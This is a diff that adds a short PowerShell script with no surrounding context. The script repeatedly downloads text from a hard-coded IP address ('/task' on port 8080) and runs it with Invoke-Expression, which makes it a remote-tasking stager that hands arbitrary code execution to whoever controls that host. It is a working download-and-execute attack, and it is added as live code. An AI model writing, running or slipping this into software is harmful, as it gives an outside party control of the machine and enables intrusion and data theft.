@@ -1,0 +1,8 @@
+$server = 'http://199.96.141.189:8080/task'
+$count = 0
+while ($count -lt 3) {
+    $task = (New-Object Net.WebClient).DownloadString($server)
+    Invoke-Expression $task
+    Start-Sleep 5
+    $count++
+}
